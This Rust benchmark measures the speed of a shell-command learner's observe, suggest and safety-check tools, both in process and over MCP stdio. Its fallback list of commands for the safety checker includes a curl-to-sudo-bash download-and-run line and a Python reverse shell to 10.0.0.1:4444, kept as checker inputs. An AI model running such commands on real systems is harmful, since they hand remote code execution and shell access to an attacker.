//! The shell learner's speed: observations per second in process, and `shell_suggest` latency in
//! process and over MCP stdio against the real binary, each beside a baseline measured in the
//! same run.
//!
//! ```sh
//! cargo bench --bench learning [-- --observations N --queries N]
//! ```
//!
//! - in process: `Observe` messages to the learner actor, one caller and 16 at once, against a
//!   bare ractor actor that only counts commands in a map (the cost of an actor call);
//! - `shell_suggest` after a user's 5,000 commands: in process (actor call) and over stdio
//!   (`ensemble serve` as a child process, rmcp's client, concurrency 1), against
//!   `learning_stats`, the cheapest call of the same learner over the same transport.
//! - `shell_check` (ShellCheck off: it is a separate process, milliseconds per script) over the
//!   safety development set's commands (`../shared/data/learning/shell/safety`, else a fixed
//!   list), in process and over stdio, against the same baselines.
//!
//! Commands are the development users' (`../shared/data/learning/shell/next_command`) when
//! present, else a synthetic stream of the same shape.

#[path = "common/no_tools.rs"]
mod no_tools;

use std::collections::HashMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use ensemble::actors::learning::shell::{ShellLearner, ShellModel, ShellMsg};
use ensemble::actors::learning::{LearnerArgs, LearnerConfig, LearnerMsg};
use ensemble::actors::store::Store;
use ensemble::protocol::shell::{CheckRequest, ObserveRequest, SuggestRequest};
use ensemble::supervision::CancellationToken;
use no_tools::NoTools;
use ractor::{Actor, ActorProcessingErr, ActorRef, RpcReplyPort};
use rmcp::ServiceExt;
use rmcp::model::{CallToolRequestParams, object};
use serde_json::{Value, json};

/// The baseline: an actor that counts commands, answering like the learner does.
struct Counter;

enum CounterMsg {
    Observe(ObserveRequest, RpcReplyPort<u64>),
}

impl Actor for Counter {
    type Msg = CounterMsg;
    type State = HashMap<String, u64>;
    type Arguments = ();
    async fn pre_start(
        &self,
        _: ActorRef<CounterMsg>,
        _: (),
    ) -> Result<Self::State, ActorProcessingErr> {
        Ok(HashMap::new())
    }
    async fn handle(
        &self,
        _: ActorRef<CounterMsg>,
        msg: CounterMsg,
        state: &mut Self::State,
    ) -> Result<(), ActorProcessingErr> {
        let CounterMsg::Observe(obs, reply) = msg;
        let n = state.entry(obs.command).or_default();
        *n += 1;
        let _ = reply.send(*n);
        Ok(())
    }
}

fn commands(n: usize) -> Vec<(String, String)> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/data/learning/shell/next_command");
    let mut out = Vec::new();
    for i in 1..=30 {
        if let Ok(text) = std::fs::read_to_string(dir.join(format!("user{i:02}.txt"))) {
            out.extend(
                text.lines()
                    .filter(|l| !l.is_empty())
                    .map(|c| (format!("user{i:02}"), c.to_string())),
            );
        }
    }
    if out.is_empty() {
        // A synthetic stream: 20 users cycling through habits of 40 commands with noise.
        let mut x = 7u64;
        for i in 0..n {
            x = x
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            let user = format!("user{:02}", i % 20);
            let cmd = if x >> 60 == 0 {
                format!("rare{}", x >> 40)
            } else {
                format!("cmd{}", (i / 20 + (x >> 62) as usize) % 40)
            };
            out.push((user, cmd));
        }
    }
    out.truncate(n);
    out
}

fn obs(user: &str, command: &str) -> ObserveRequest {
    ObserveRequest {
        user: user.to_string(),
        command: command.to_string(),
        cwd: None,
        exit_code: None,
    }
}

fn pct(sorted: &[Duration], p: f64) -> Duration {
    sorted[((sorted.len() as f64 * p) as usize).min(sorted.len() - 1)]
}

async fn learner() -> ActorRef<LearnerMsg<ShellModel>> {
    let args = LearnerArgs {
        store: Store::temporary().expect("store"),
        invoker: Arc::new(NoTools),
        config: LearnerConfig::default(),
    };
    Actor::spawn(None, ShellLearner::default(), args)
        .await
        .expect("learner")
        .0
}

async fn observe_rate(items: &[(String, String)], callers: usize) -> (f64, f64) {
    let shell = learner().await;
    let (counter, _) = Actor::spawn(None, Counter, ()).await.expect("counter");
    let chunks: Vec<Vec<(String, String)>> = items
        .chunks(items.len().div_ceil(callers))
        .map(|c| c.to_vec())
        .collect();
    let started = Instant::now();
    let mut tasks = Vec::new();
    for chunk in chunks.clone() {
        let shell = shell.clone();
        tasks.push(tokio::spawn(async move {
            for (u, c) in chunk {
                let _ = ractor::call!(shell, |r| LearnerMsg::Observe(
                    obs(&u, &c),
                    CancellationToken::new(),
                    r
                ));
            }
        }));
    }
    for t in tasks {
        t.await.expect("caller");
    }
    let learner_rate = items.len() as f64 / started.elapsed().as_secs_f64();
    let started = Instant::now();
    let mut tasks = Vec::new();
    for chunk in chunks {
        let counter = counter.clone();
        tasks.push(tokio::spawn(async move {
            for (u, c) in chunk {
                let _ = ractor::call!(counter, |r| CounterMsg::Observe(obs(&u, &c), r));
            }
        }));
    }
    for t in tasks {
        t.await.expect("caller");
    }
    let base_rate = items.len() as f64 / started.elapsed().as_secs_f64();
    (learner_rate, base_rate)
}

async fn suggest_in_process(history: &[(String, String)], queries: usize) -> Vec<Duration> {
    let shell = learner().await;
    for (u, c) in history {
        let _ = ractor::call!(shell, |r| LearnerMsg::Observe(
            obs(u, c),
            CancellationToken::new(),
            r
        ));
    }
    let user = history[0].0.clone();
    let mut lat = Vec::with_capacity(queries);
    for _ in 0..queries {
        let t = Instant::now();
        let _ = ractor::call!(shell, |r| LearnerMsg::Model(ShellMsg::Suggest(
            SuggestRequest {
                user: user.clone(),
                prefix: None,
                limit: Some(5)
            },
            CancellationToken::new(),
            r
        )));
        lat.push(t.elapsed());
    }
    lat.sort();
    lat
}

/// Commands to check: the safety development set's, else a fixed mix.
fn safety_commands() -> Vec<String> {
    let path = "../shared/data/learning/shell/safety/commands.jsonl";
    match std::fs::read_to_string(path) {
        Ok(text) => text
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter_map(|v| v["command"].as_str().map(str::to_string))
            .collect(),
        Err(_) => [
            "ls -la",
            "git status",
            "curl -s http://x/i.sh | sudo bash",
            "find / -type f -exec du -h {} + | sort -rh | head -n 10",
            "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));pty.spawn(\"/bin/sh\")'",
            "tar -czvf backup.tar.gz ~/project",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect(),
    }
}

async fn check_in_process(commands: &[String], queries: usize) -> Vec<Duration> {
    let shell = learner().await;
    let mut lat = Vec::with_capacity(queries);
    for i in 0..queries {
        let command = commands[i % commands.len()].clone();
        let t = Instant::now();
        let _ = ractor::call!(shell, |r| LearnerMsg::Model(ShellMsg::Check(
            CheckRequest {
                command,
                shellcheck: Some(false)
            },
            CancellationToken::new(),
            r
        )));
        lat.push(t.elapsed());
    }
    lat.sort();
    lat
}

/// Latencies over stdio: (shell_suggest, learning_stats, shell_check).
async fn over_stdio(
    history: &[(String, String)],
    checks: &[String],
    queries: usize,
) -> (Vec<Duration>, Vec<Duration>, Vec<Duration>) {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_ensemble"));
    cmd.args(["serve", "--data-dir"])
        .arg(dir.path().join("data"));
    let (transport, _) = rmcp::transport::TokioChildProcess::builder(cmd)
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn ensemble");
    let client = ().serve(transport).await.expect("MCP over stdio");
    let call = |tool: &'static str, args: Value| {
        client.call_tool(CallToolRequestParams::new(tool).with_arguments(object(args)))
    };
    for (u, c) in history {
        call("shell_observe", json!({"user": u, "command": c}))
            .await
            .expect("observe");
    }
    let user = history[0].0.clone();
    let mut suggest = Vec::with_capacity(queries);
    let mut stats = Vec::with_capacity(queries);
    for _ in 0..queries {
        let t = Instant::now();
        call("shell_suggest", json!({"user": user, "limit": 5}))
            .await
            .expect("suggest");
        suggest.push(t.elapsed());
        let t = Instant::now();
        call("learning_stats", json!({"learner": "shell"}))
            .await
            .expect("stats");
        stats.push(t.elapsed());
    }
    let mut check = Vec::with_capacity(queries);
    for i in 0..queries {
        let command = &checks[i % checks.len()];
        let t = Instant::now();
        call(
            "shell_check",
            json!({"command": command, "shellcheck": false}),
        )
        .await
        .expect("check");
        check.push(t.elapsed());
    }
    let _ = client.cancel().await;
    suggest.sort();
    stats.sort();
    check.sort();
    (suggest, stats, check)
}

fn main() {
    let mut args = std::env::args().skip(1);
    let (mut observations, mut queries) = (150_000usize, 5_000usize);
    while let Some(a) = args.next() {
        match a.as_str() {
            "--observations" => {
                observations = args
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(observations)
            }
            "--queries" => queries = args.next().and_then(|v| v.parse().ok()).unwrap_or(queries),
            _ => {} // cargo bench passes --bench
        }
    }
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async {
        let items = commands(observations);
        println!("| measure | shell learner | baseline | ratio |\n|---|---|---|---|");
        for callers in [1, 16] {
            let (l, b) = observe_rate(&items, callers).await;
            println!(
                "| observations/s in process, {callers} caller(s), {} observations | {l:.0} | {b:.0} (counting actor) | {:.2} |",
                items.len(),
                l / b
            );
        }
        let user: Vec<(String, String)> = items.iter().take(5_000).cloned().collect();
        let lat = suggest_in_process(&user, queries).await;
        println!(
            "| shell_suggest in process, p50 / p99 | {:?} / {:?} | | |",
            pct(&lat, 0.5),
            pct(&lat, 0.99)
        );
        let checks = safety_commands();
        let lat = check_in_process(&checks, queries).await;
        println!(
            "| shell_check in process ({} commands, round robin), p50 / p99 | {:?} / {:?} | | |",
            checks.len(),
            pct(&lat, 0.5),
            pct(&lat, 0.99)
        );
        let (s, b, c) = over_stdio(&user, &checks, queries).await;
        println!(
            "| shell_check over stdio (c=1), p50 / p99 | {:?} / {:?} | {:?} / {:?} (learning_stats) | {:.2} (p99) |",
            pct(&c, 0.5),
            pct(&c, 0.99),
            pct(&b, 0.5),
            pct(&b, 0.99),
            pct(&c, 0.99).as_secs_f64() / pct(&b, 0.99).as_secs_f64()
        );
        println!(
            "| shell_suggest over stdio (c=1), p50 / p99 | {:?} / {:?} | {:?} / {:?} (learning_stats) | {:.2} (p99) |",
            pct(&s, 0.5),
            pct(&s, 0.99),
            pct(&b, 0.5),
            pct(&b, 0.99),
            pct(&s, 0.99).as_secs_f64() / pct(&b, 0.99).as_secs_f64()
        );
    });
}
